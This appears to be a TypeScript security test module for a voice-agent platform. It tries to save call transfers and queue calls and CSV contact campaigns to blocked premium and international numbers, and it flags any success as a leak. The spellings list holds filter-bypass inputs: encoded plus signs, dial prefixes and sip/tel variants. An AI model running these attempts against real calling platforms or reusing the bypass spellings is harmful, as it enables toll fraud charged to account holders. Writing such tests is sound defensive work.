import { FormData } from 'undici';
import { repeated, request, type Attack } from './attack.ts';

/** Numbers that the hostile workspace, limited to +1, may not reach, in every spelling that a carrier may dial. */
const CLOSED = [
  '+5352123456',
  '+881612345678',
  '+882991234567',
  '+19005551234',
  '+442079460000',
  '+2526123456789',
  '+979123456789',
];

const spellings = (host: string): string[] => [
  '+5352123456',
  `sip:+5352123456@${host}`,
  `sip:%2B5352123456@${host}`,
  `sip:%252B5352123456@${host}`,
  `sip:005352123456@${host}`,
  `sip:0115352123456@${host}`,
  `sip:90115352123456@${host}`,
  `sip:5352123456@${host}`,
  `sip:+53-52-123456@${host}`,
  `sip:+5352123456@${host};user=phone`,
  'tel:+5352123456',
  `sip:+881612345678@${host}`,
  `sip:+19005551234@${host}`,
  `sip:911@${host}`,
  'sip:desk@elsewhere.example.com',
  'sip:+14155550112@elsewhere.example.com',
];

const transfers: Attack = {
  id: '2.1',
  name: 'transfers to closed numbers in 16 spellings, cold and warm',
  async run(target, report, stop) {
    const targets = spellings(target.carrier);
    let turn = 0;
    await repeated(50, stop, async () => {
      const to = targets[(turn += 1) % targets.length] ?? '';
      const mode = turn % 2 === 0 ? 'cold' : 'warm';
      const tool = { type: 'CALL_TRANSFER_TOOL', name: 'to_desk', transfer_to: to, mode };
      const { status } = await request(target, target.key, 'PATCH', '/api/v0/agent/v1', {
        body: { agent_id: target.agentId, operation: 'edit_on_call_tools', on_call_tools: [tool] },
        stop,
      });
      report.answer(status);
      report.sent += 1;
      if (status === 200) report.leak(`a transfer to ${to} was saved`);
    });
  },
};

const calls: Attack = {
  id: '2.10',
  name: 'calls and contact lists to closed and premium numbers',
  async run(target, report, stop) {
    let turn = 0;
    await repeated(50, stop, async () => {
      const number = CLOSED[(turn += 1) % CLOSED.length] ?? '';
      const { status } = await request(target, target.key, 'POST', '/api/v0/calling/outbound/individual', {
        body: { name: 'Sam', mobile_number: number, agent_id: target.agentId, from_number: target.inbound },
        stop,
      });
      report.answer(`call ${status}`);
      report.sent += 1;
      if (status === 200) report.leak(`a call to ${number} was queued`);
      if (turn % 20 !== 0) return;
      const list = new FormData();
      list.append('agent_id', target.agentId);
      list.append('campaign_name', `Closed ${turn}`);
      list.append(
        'file',
        new Blob([`name,mobile_number\n${CLOSED.map((to) => `Sam,${to}\n`).join('')}`]),
        'a.csv',
      );
      const saved = await request(target, target.key, 'POST', '/api/v0/campaign/save', { form: list, stop });
      report.answer(`list ${saved.status}`);
      if (
        saved.status === 200 &&
        Number(saved.body?.successful_rows ?? saved.body?.data?.successful_rows ?? 0) > 0
      )
        report.leak('rows with closed numbers were queued');
    });
  },
};

export const tollFraud: readonly Attack[] = [transfers, calls];
